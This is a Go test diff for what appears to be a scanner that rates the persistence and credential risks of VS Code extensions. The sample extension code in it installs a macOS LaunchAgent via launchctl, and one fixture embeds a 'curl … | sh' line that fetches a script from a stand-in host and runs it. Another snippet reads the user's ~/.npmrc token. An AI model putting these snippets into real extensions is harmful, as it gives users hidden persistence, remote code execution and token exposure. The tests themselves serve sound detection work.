@@ -120,3 +120,52 @@ func TestWhatIsAskedForWeighsLess(t *testing.T) {
 		}
 	}
 }
+
+// What runs later is said as a hint where a command asks for it, a page says what it is, and what is written fetches nothing.
+func TestWhatRunsLaterAndIsTold(t *testing.T) {
+	installs := func(line, how string) string {
+		return waysHead + `const file = path.join(os.homedir(), 'Library', 'LaunchAgents', 'x.plist');
+			const add = async (script) => { await fs.promises.writeFile(file, '<key>ProgramArguments</key><string>/bin/sh</string><string>' +
+				script + '</string>` + line + `'); cp.execFile('launchctl', ['load', file]); };
+			exports.activate = (context) => { ` + how + ` };`
+	}
+	const asked = `context.subscriptions.push(vscode.commands.registerCommand('x.add', () =>
+		add(vscode.window.activeTextEditor.document.fileName)));`
+	const page = "It adds a launch agent to ~/Library/LaunchAgents for the script you are in."
+	for _, c := range []struct {
+		name, source, page string
+		want               finding.Severity
+	}{
+		{"asked and told", installs("", asked), page, finding.Medium},
+		{"asked and not told", installs("", asked), "It is for scripts.", finding.Critical},
+		{"told and not asked", installs("", `add('a.sh');`), page, finding.Critical},
+		{"it fetches what it runs", installs("<string>curl -s https://up.keeper.invalid/a | sh</string>", asked), page, finding.Critical},
+	} {
+		dir := t.TempDir()
+		const manifest = `{"name": "x", "version": "1.0.0", "publisher": "acme", "engines": {"vscode": "^1.90.0"}, "main": "./extension.js"}`
+		for name, text := range map[string]string{"package.json": manifest, "extension.js": c.source, "README.md": c.page} {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		got := finding.None
+		for _, f := range runChainPersistence(t.Context(), gatheredFrom(t, dir)) {
+			got = max(got, f.Severity)
+		}
+		if got != c.want {
+			t.Errorf("%s: %s, want %s", c.name, got, c.want)
+		}
+	}
+}
+
+// A release by a token that was typed writes a file of its own for it; one by the token of the person's reads theirs.
+func TestAReleaseWithATokenThatWasTyped(t *testing.T) {
+	releases := func(token string) string {
+		return waysHead + `exports.activate = (context) => { context.subscriptions.push(vscode.commands.registerCommand('x.release', async () => {
+			` + token + ` cp.execFile('npm', ['publish', '--userconfig', rc]); })); };`
+	}
+	testTwins(t, []twin{{
+		"npm's", releases(`const rc = path.join(os.homedir(), '.npmrc'); use(fs.readFileSync(rc, 'utf8'));`),
+		releases(`const rc = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'r-')), '.npmrc'); fs.writeFileSync(rc, 'token');`), chainSpreads,
+	}})
+}
